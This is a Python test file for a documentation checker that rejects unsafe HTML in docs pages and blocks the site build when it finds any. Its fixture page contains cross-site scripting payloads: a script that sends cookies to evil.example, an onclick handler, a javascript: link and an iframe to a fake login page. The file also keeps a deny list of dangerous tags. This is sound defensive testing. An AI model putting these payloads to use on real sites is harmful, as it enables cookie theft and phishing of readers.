"""docs/ pages: `carehub check` applies the stories' unsafe-markup rules (CH400–CH402), and the build agrees."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from carehub.check import docpages, safety
from carehub.check.checker import check_project

from .conftest import FIXTURES

ROOT = Path(__file__).resolve().parents[1]
VALID = (FIXTURES / "stories" / "valid" / "case-study.md").read_text()

HOSTILE = """---
title: Joining up urgent care
description: How three practices in Wickley share one duty doctor.
---

# Joining up urgent care

The duty doctor rota is on the [shared drive](https://example.org/rota.pdf).

<script>fetch("https://evil.example/?" + document.cookie)</script>

Book a slot: <abbr title="Same day emergency care" onclick="steal()">SDEC</abbr>.

Read [the evaluation](javascript:alert(1)) before you start.

<iframe src="https://evil.example/login"></iframe>

A heading id is fine: {#duty-doctor}. So is `<script>` in code, and this:

```html
<iframe src="https://example.org/"></iframe>
```
"""


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "carehub", *args], capture_output=True, text=True, check=False)


def found(problems: object) -> list[tuple[str, int, str]]:
    return [(p.file, p.line, p.code) for p in problems]  # type: ignore[attr-defined]


EXPECTED = [
    ("docs/resources/urgent-care.md", 10, "CH400"),  # <script>
    ("docs/resources/urgent-care.md", 12, "CH401"),  # onclick
    ("docs/resources/urgent-care.md", 14, "CH402"),  # javascript:
    ("docs/resources/urgent-care.md", 16, "CH400"),  # <iframe>
]


def test_the_repositorys_own_pages_pass() -> None:
    report = docpages.check_pages(ROOT)
    assert report.checked >= 10, "the docs folder was not found"
    assert report.problems == []


def test_a_hostile_page_gets_every_problem_with_its_line(project: Callable[..., Path]) -> None:
    root = project({"fine.md": VALID})
    (root / "docs" / "resources" / "urgent-care.md").write_text(HOSTILE)
    report = check_project(root, cache=False)
    assert found(report.problems) == EXPECTED
    messages = [p.message for p in report.problems]
    assert "The HTML tag `<script>` is not allowed in pages in docs/." in messages
    assert "The event handler `onclick` would run code in readers' browsers." in messages
    assert report.sources["docs/resources/urgent-care.md"][9].startswith("<script>")  # the line is quoted
    assert found(check_project(root).problems) == EXPECTED  # with the cache: the same


def test_check_of_one_page_checks_only_that_page(project: Callable[..., Path]) -> None:
    root = project({"broken.md": VALID.replace("region: london", "region: londn")})
    page = root / "docs" / "resources" / "urgent-care.md"
    page.write_text(HOSTILE)
    result = run("--root", str(root), "check", "--format", "json", str(page))
    assert result.returncode == 1
    report = json.loads(result.stdout)
    assert report["checked"] == 1
    assert [(p["file"], p["line"], p["code"]) for p in report["problems"]] == EXPECTED
    # The stories' folder: only the stories; the project: both.
    stories = json.loads(run("--root", str(root), "check", "--format", "json", str(root / "stories")).stdout)
    assert {p["file"] for p in stories["problems"]} == {"stories/broken.md"}
    both = json.loads(run("--root", str(root), "check", "--format", "json", str(root)).stdout)
    assert {p["file"] for p in both["problems"]} == {"stories/broken.md", "docs/resources/urgent-care.md"}
    assert both["checked"] == 1 + len(docpages.page_files(root / "docs"))


def test_the_meta_block_is_not_markup_but_keeps_the_line_numbers() -> None:
    page = '---\ntitle: "<script> in a title is escaped by the template"\n---\n\n<script>x</script>\n'
    assert [(p.line, p.column, p.code) for p in docpages.page_problems(page, "docs/x.md")] == [(5, 1, "CH400")]


def test_html_comments_and_the_generated_markers_are_allowed() -> None:
    page = "# Share\n\n<!-- carehub:share-form -->\n\n<!-- a note for editors -->\n"
    assert docpages.page_problems(page, "docs/contribute/share.md") == []


def test_the_allow_list_for_pages_is_the_stories_list_plus_its_own_entries() -> None:
    assert safety.DOCS.tags == safety.ALLOWED_RAW_TAGS | safety.DOCS_EXTRA_TAGS
    assert not {"script", "iframe", "object", "embed", "form", "style", "svg", "base"} & safety.DOCS.tags
    assert all(not name.startswith("on") for names in safety.DOCS.attributes.values() for name in names)


@pytest.mark.build
def test_the_build_refuses_the_page_check_rejects_and_keeps_the_old_site(project: Callable[..., Path]) -> None:
    root = project({"fine.md": VALID})
    (root / "site").mkdir()
    (root / "site" / "index.html").write_text("the previous site")
    (root / "docs" / "resources" / "urgent-care.md").write_text(HOSTILE)
    result = run("--root", str(root), "build", "--quiet")
    assert result.returncode == 1, result.stdout + result.stderr
    for file, line, code in EXPECTED:
        assert f"{file}:{line}:" in result.stdout and code in result.stdout
    assert "Nothing was built" in result.stderr
    assert [p.name for p in (root / "site").iterdir()] == ["index.html"]
    assert (root / "site" / "index.html").read_text() == "the previous site"


@pytest.mark.build
def test_the_plugin_refuses_the_page_too_when_mkdocs_builds_alone(project: Callable[..., Path]) -> None:
    root = project({"fine.md": VALID})
    (root / "docs" / "resources" / "urgent-care.md").write_text(HOSTILE)
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--quiet", "--site-dir", str(root / "out")],
        cwd=root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode != 0
    output = result.stdout + result.stderr
    assert "docs/resources/urgent-care.md:10:" in output and "CH400" in output
    assert not (root / "out" / "resources" / "urgent-care" / "index.html").exists()
